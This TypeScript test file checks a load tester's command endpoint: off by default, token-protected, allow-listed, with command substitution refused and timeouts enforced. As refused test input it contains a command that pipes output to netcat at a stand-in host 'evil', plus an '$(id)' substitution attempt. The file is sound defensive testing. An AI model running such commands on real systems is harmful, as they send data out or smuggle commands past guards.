import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, test, type TestContext } from 'node:test';
import { payload, post, startTester } from './loadtester.test-support.js';

const TOKEN = 's3cret-token';

/** A load tester running commands of `programs`, with the token in a file as a mounted Secret. */
async function withCommands(t: TestContext, programs: string[]) {
  const tokenFile = join(tmpdir(), `serin-loadtester-token-${process.pid}-${Date.now()}`);
  await writeFile(tokenFile, `${TOKEN}\n`);
  return startTester(t, { enableCommands: true, allowCommand: programs, tokenFile });
}

/** Processes whose command line is exactly `text` (read only: nothing is signalled). */
function processesRunning(text: string): number {
  const out = execFileSync('ps', ['-eo', 'args='], { encoding: 'utf8' });
  return out.split('\n').filter((line) => line.trim() === text).length;
}

describe('commands other than hey and curl: off by default, then allow-listed and token-protected', () => {
  test('by default a command is refused with 403 naming --enable-commands, and nothing runs', async (t) => {
    const tester = await startTester(t);
    const answer = await post(tester, '/', payload({ type: 'bash', cmd: 'kubectl get pods' }));
    assert.equal(answer.status, 403);
    assert.equal(
      answer.text,
      'metadata.cmd runs kubectl: the load tester runs only hey and curl commands unless started with --enable-commands and --allow-command kubectl',
    );
  });

  test('with commands enabled, a missing or wrong token is a 401 and a right one (header or metadata.token) runs it', async (t) => {
    const tester = await withCommands(t, ['echo']);
    const cmd = { type: 'bash', cmd: 'echo release-ok', returnCmdOutput: 'true' };
    const missing = await post(tester, '/', payload(cmd));
    assert.equal(missing.status, 401);
    assert.match(
      missing.text,
      /a token is required to run commands: send "Authorization: Bearer <token>" or set metadata\.token/,
    );
    const wrong = await post(tester, '/', payload(cmd), { authorization: 'Bearer guess' });
    assert.equal(wrong.status, 401);
    assert.equal(wrong.text, 'the token does not match the one in --token-file');
    assert.deepEqual(await post(tester, '/', payload(cmd), { authorization: `Bearer ${TOKEN}` }), {
      status: 200,
      text: 'release-ok\n',
    });
    assert.deepEqual(await post(tester, '/', payload({ ...cmd, token: TOKEN })), { status: 200, text: 'release-ok\n' });
    assert.ok(!JSON.stringify(tester.logs).includes(TOKEN), 'the token is never logged');
  });

  test('a program outside --allow-command is a 403 naming it, with a log line; every program of a pipeline is checked', async (t) => {
    const tester = await withCommands(t, ['echo', 'tr']);
    const auth = { authorization: `Bearer ${TOKEN}` };
    const outside = await post(tester, '/', payload({ type: 'bash', cmd: 'echo hi | nc evil 80' }), auth);
    assert.equal(outside.status, 403);
    assert.match(outside.text, /metadata\.cmd runs "nc", not in the load tester's --allow-command \(echo, tr\)/);
    const line = tester.logs.find((l) => l.msg === 'command refused: program not in --allow-command');
    assert.deepEqual(line?.programs, ['nc']);
    assert.equal(line?.canary, 'account.shop');
    const piped = await post(
      tester,
      '/',
      payload({ type: 'bash', cmd: 'echo abc | tr a-z A-Z', returnCmdOutput: 'true' }),
      auth,
    );
    assert.deepEqual(piped, { status: 200, text: 'ABC\n' });
  });

  test('command substitution is refused before any program runs', async (t) => {
    const tester = await withCommands(t, ['echo']);
    const answer = await post(tester, '/', payload({ type: 'bash', cmd: 'echo $(id)' }), {
      authorization: `Bearer ${TOKEN}`,
    });
    assert.equal(answer.status, 400);
    assert.equal(answer.text, 'metadata.cmd: command substitution ($(…) or `…`) is not allowed');
  });

  test('a command past its timeout is killed with every process it started', async (t) => {
    const tester = await withCommands(t, ['sleep']);
    const started = Date.now();
    const answer = await post(
      tester,
      '/',
      payload({ type: 'bash', cmd: 'sleep 31.4159 & sleep 31.4158', timeout: '800ms' }),
      { authorization: `Bearer ${TOKEN}` },
    );
    assert.equal(answer.status, 500);
    assert.match(answer.text, /^command timed out after 0\.8s and was stopped/);
    assert.ok(Date.now() - started < 5000, 'answered soon after the timeout');
    await new Promise((r) => setTimeout(r, 200));
    assert.equal(processesRunning('sleep 31.4159'), 0, 'the background child is gone');
    assert.equal(processesRunning('sleep 31.4158'), 0, 'the foreground child is gone');
  });

  test('a failing command is a 500 with its exit code and output; output is logged only with logCmdOutput', async (t) => {
    const tester = await withCommands(t, ['ls']);
    const auth = { authorization: `Bearer ${TOKEN}` };
    const failing = await post(tester, '/', payload({ type: 'bash', cmd: 'ls /no-such-dir-here' }), auth);
    assert.equal(failing.status, 500);
    assert.match(failing.text, /^command failed with exit code 2: ls: cannot access '\/no-such-dir-here'/);
    assert.ok(!tester.logs.some((l) => l.msg === 'command output'), 'not logged unless asked');
    await post(tester, '/', payload({ type: 'bash', cmd: 'ls /no-such-dir-here', logCmdOutput: 'true' }), auth);
    const logged = tester.logs.find((l) => l.msg === 'command output');
    assert.match(String(logged?.output), /no-such-dir-here/);
  });
});
